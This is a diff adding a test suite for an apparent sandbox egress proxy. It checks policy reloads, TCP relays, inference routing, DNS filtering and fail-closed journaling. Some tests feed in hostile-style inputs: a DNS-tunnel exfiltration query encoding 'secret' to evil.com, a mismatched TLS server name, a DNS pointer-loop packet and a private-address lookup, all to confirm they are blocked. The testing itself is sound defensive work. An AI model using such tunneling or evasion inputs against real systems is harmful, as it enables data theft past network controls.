@@ -1,0 +1,298 @@
+import { createSocket } from "node:dgram";
+import { once } from "node:events";
+import { connect, createServer, type Server, type Socket } from "node:net";
+import { connect as tlsConnect } from "node:tls";
+import type { InferenceRequest } from "@creel/router";
+import { decode, encode } from "dns-packet";
+import { afterEach, describe, expect, it } from "vitest";
+import { ask, speak } from "./support/client.ts";
+import { createUpstream, createWorld, portOf, type Upstream, type World } from "./support/world.ts";
+
+const policy = (endpoint: string, more = "") => `version: 1
+network_policies:
+  only:
+    name: only
+    endpoints:
+      - ${endpoint}
+    binaries:
+      - path: /usr/bin/curl
+${more}`;
+const NOTHING = policy("{ host: nowhere.example.com, port: 443, protocol: rest, access: full }");
+const REST = policy("{ host: api.example.com, port: 443, protocol: rest, access: full }");
+const TCP = policy("{ host: db.example.com, port: 5432, protocol: tcp }");
+
+let world: World;
+const cleanups: (() => unknown)[] = [];
+afterEach(async () => {
+  await world.close();
+  for (const cleanup of cleanups.splice(0)) await cleanup();
+});
+
+async function restWorld(handler: Parameters<typeof createUpstream>[1]): Promise<Upstream> {
+  const upstream = await createUpstream("api.example.com", handler);
+  cleanups.push(() => upstream.close());
+  world = await createWorld({
+    yaml: REST,
+    resolve: { "api.example.com:443": `127.0.0.1:${upstream.port}` },
+    upstreamCa: [upstream.caPem],
+  });
+  return upstream;
+}
+
+async function tcpServer(handler: (socket: Socket) => void): Promise<Server> {
+  const server = createServer({ allowHalfOpen: true }, handler);
+  server.listen(0, "127.0.0.1");
+  await once(server, "listening");
+  cleanups.push(() => server.close());
+  return server;
+}
+
+describe("a reload", () => {
+  it("cuts a stream that the new policy does not allow, both ways and at once", async () => {
+    let upstreamClosed = false;
+    await restWorld((req, res) => {
+      res.writeHead(200, { "content-type": "text/event-stream" });
+      res.write("data: 1\n\n");
+      req.socket.once("close", () => {
+        upstreamClosed = true;
+      });
+    });
+    const door = await world.door("api.example.com", 443);
+    const socket = tlsConnect({
+      host: "127.0.0.1",
+      port: door,
+      servername: "api.example.com",
+      ca: world.ca.certificatePem,
+    });
+    socket.on("error", () => {});
+    await once(socket, "secureConnect");
+    socket.write("GET /stream HTTP/1.1\r\nHost: api.example.com\r\n\r\n");
+    const [chunk] = await once(socket, "data");
+    expect(String(chunk)).toContain("200 OK");
+    world.set(NOTHING);
+    await once(socket, "close");
+    expect(world.records.at(-1)).toMatchObject({ decision: "allow", path: "/stream" });
+    await expect.poll(() => upstreamClosed).toBe(true);
+  });
+
+  it("leaves a stream alone that stays allowed", async () => {
+    await restWorld((_req, res) => {
+      res.write("a");
+      setTimeout(() => res.end("b"), 50);
+    });
+    const door = await world.door("api.example.com", 443);
+    const answer = ask({ door, host: "api.example.com", ca: world.ca.certificatePem });
+    setTimeout(() => world.set(REST), 20);
+    expect((await answer).body).toBe("ab");
+  });
+
+  it("cuts a raw relay", async () => {
+    const server = await tcpServer((socket) => void socket.on("error", () => {}).write("hello"));
+    world = await createWorld({ yaml: TCP, resolve: { "db.example.com:5432": `127.0.0.1:${portOf(server)}` } });
+    const socket = connect(await world.door("db.example.com", 5432), "127.0.0.1");
+    socket.on("error", () => {});
+    await once(socket, "data");
+    world.set(NOTHING);
+    await once(socket, "close");
+    expect(world.records[0]).toMatchObject({ kind: "connect", decision: "allow", bytesIn: 5 });
+  });
+});
+
+describe("a raw relay", () => {
+  it("lets the server speak first, passes half-closes on, and counts", async () => {
+    const server = await tcpServer((socket) => {
+      let heard = "";
+      socket.on("error", () => {});
+      socket.write("220 hello\n");
+      socket.on("data", (chunk) => {
+        heard += String(chunk);
+      });
+      socket.on("end", () => socket.end(`heard ${heard}`));
+    });
+    world = await createWorld({ yaml: TCP, resolve: { "db.example.com:5432": `127.0.0.1:${portOf(server)}` } });
+    const socket = connect({ port: await world.door("db.example.com", 5432), host: "127.0.0.1", allowHalfOpen: true });
+    let text = "";
+    socket.on("data", (chunk) => {
+      text += String(chunk);
+    });
+    await once(socket, "data");
+    socket.end("query");
+    await once(socket, "end");
+    expect(text).toBe("220 hello\nheard query");
+    await expect.poll(() => world.records.length).toBe(1);
+    expect(world.records[0]).toMatchObject({
+      kind: "connect",
+      decision: "allow",
+      bytesOut: 5,
+      bytesIn: 21,
+      rule: "only",
+    });
+  });
+
+  it("is cut when the client asks TLS for another name", async () => {
+    let bytes = 0;
+    const server = await tcpServer((socket) => {
+      socket.on("error", () => {});
+      socket.on("data", (chunk: Buffer) => {
+        bytes += chunk.length;
+      });
+    });
+    world = await createWorld({ yaml: TCP, resolve: { "db.example.com:5432": `127.0.0.1:${portOf(server)}` } });
+    const socket = tlsConnect({
+      host: "127.0.0.1",
+      port: await world.door("db.example.com", 5432),
+      servername: "evil.example.com",
+    });
+    socket.on("error", () => {});
+    await once(socket, "close");
+    expect(bytes).toBe(0);
+    await expect.poll(() => world.records.some((record) => record.reason.includes("evil.example.com"))).toBe(true);
+  });
+
+  it("never reaches a private address", async () => {
+    world = await createWorld({ yaml: TCP, lookup: async () => ["127.0.0.1"] });
+    const { text } = await speak({ door: await world.door("db.example.com", 5432) }, "x", { timeoutMs: 1500 });
+    expect(text).toBe("");
+    expect(world.records[0]).toMatchObject({ kind: "connect", decision: "deny" });
+  });
+});
+
+describe("the model host", () => {
+  const asked: InferenceRequest[] = [];
+  const router = {
+    async handle(request: InferenceRequest) {
+      asked.push(request);
+      async function* body() {
+        yield Buffer.from("data: a\n\n");
+        yield Buffer.from("data: b\n\n");
+      }
+      return {
+        status: 200,
+        headers: { "content-type": "text/event-stream" },
+        body: body(),
+        info: { protocol: "openai-chat" as const, model: "m" },
+      };
+    },
+  };
+
+  it("is answered in this process, streamed, and written down with its model", async () => {
+    world = await createWorld({ yaml: NOTHING, router });
+    const door = await world.door("inference.local", 443);
+    const answer = await ask({
+      door,
+      host: "inference.local",
+      ca: world.ca.certificatePem,
+      method: "POST",
+      path: "/v1/chat/completions",
+      headers: { "content-type": "application/json", authorization: "Bearer placeholder" },
+      body: JSON.stringify({ model: "creel-scripted-demo", messages: [] }),
+    });
+    expect(answer.body).toBe("data: a\n\ndata: b\n\n");
+    expect(asked.at(-1)?.path).toBe("/v1/chat/completions");
+    expect(world.records[0]).toMatchObject({
+      kind: "inference",
+      decision: "allow",
+      method: "POST",
+      path: "/v1/chat/completions",
+      bytesIn: 18,
+    });
+    expect(world.records[0]?.reason).toContain("creel-scripted-demo");
+  });
+
+  it("is closed where the policy closes it", async () => {
+    world = await createWorld({
+      yaml: policy(
+        "{ host: a.example.com, port: 443, protocol: rest, access: full }",
+        'inference:\n  models: ["only-this"]\n',
+      ),
+      router,
+    });
+    const door = await world.door("inference.local", 443);
+    const answer = await ask({
+      door,
+      host: "inference.local",
+      ca: world.ca.certificatePem,
+      method: "POST",
+      path: "/v1/chat/completions",
+      body: JSON.stringify({ model: "another" }),
+    });
+    expect(answer.status).toBe(403);
+    expect(world.records[0]).toMatchObject({ kind: "inference", decision: "deny" });
+  });
+
+  it("tells a sandbox which policy is in force, at creel.local", async () => {
+    world = await createWorld({ yaml: NOTHING });
+    const answer = await ask({
+      door: await world.door("creel.local", 443),
+      host: "creel.local",
+      ca: world.ca.certificatePem,
+    });
+    expect(answer.json).toMatchObject({ sandbox: "box", generation: 1 });
+  });
+});
+
+describe("names", () => {
+  async function query(bytes: Buffer): Promise<ReturnType<typeof decode> | null> {
+    const asker = createSocket("udp4");
+    asker.send(bytes, world.dnsPort, "127.0.0.1");
+    const reply = await Promise.race([
+      once(asker, "message"),
+      new Promise<null>((resolve) => setTimeout(() => resolve(null), 300)),
+    ]);
+    asker.close();
+    return reply === null ? null : decode(reply[0]);
+  }
+  const ofType = (type: string, name = "api.example.com") =>
+    query(encode({ type: "query", id: 1, questions: [{ type, class: "IN", name }] }));
+
+  it.each(["AAAA", "TXT", "ANY", "MX", "NS", "SRV", "CAA", "PTR"])("have no %s record", async (type) => {
+    world = await createWorld({ yaml: REST });
+    expect((await ofType(type))?.answers).toEqual([]);
+    expect(world.records).toEqual([]);
+  });
+
+  it("that no rule names carry nothing out, however they are spelt", async () => {
+    world = await createWorld({ yaml: REST });
+    expect((await ofType("TXT", "c2VjcmV0.tunnel.evil.com"))?.flags).toBe((0x8403 & 0x7fff) | 0x80);
+    expect(world.records[0]).toMatchObject({ kind: "dns", decision: "deny", host: "c2vjcmv0.tunnel.evil.com" });
+    await ofType("A", "c2VjcmV0.tunnel.evil.com");
+    expect(world.records).toHaveLength(1);
+    expect((await ofType("A", "API.Example.COM"))?.answers).toHaveLength(1);
+  });
+
+  it("asked for in malformed packets get no answer", async () => {
+    world = await createWorld({ yaml: REST });
+    expect(await query(Buffer.from([1, 2, 3]))).toBeNull();
+    expect(await query(Buffer.alloc(5000))).toBeNull();
+    const pointerLoop = Buffer.from("00010100000100000000000 0c00c00010001".replaceAll(" ", ""), "hex");
+    expect(await query(pointerLoop)).toBeNull();
+  });
+});
+
+describe("a journal that cannot be written", () => {
+  it("stops everything and says so", async () => {
+    const upstream = await createUpstream("api.example.com", (_req, res) => res.end("leaked"));
+    cleanups.push(() => upstream.close());
+    const problems: string[] = [];
+    world = await createWorld({
+      yaml: REST,
+      resolve: { "api.example.com:443": `127.0.0.1:${upstream.port}` },
+      upstreamCa: [upstream.caPem],
+      onProblem: (problem) => void problems.push(problem),
+      journal: {
+        boot: "x",
+        append: () => Promise.reject(new Error("No space left.")),
+        end: () => {},
+        close: async () => {},
+      },
+    });
+    const answer = await ask({
+      door: await world.door("api.example.com", 443),
+      host: "api.example.com",
+      ca: world.ca.certificatePem,
+    });
+    expect(answer.status).toBe(403);
+    expect(answer.json.reason).toBe("No space left.");
+    expect(problems).toContain("No space left.");
+  });
+});
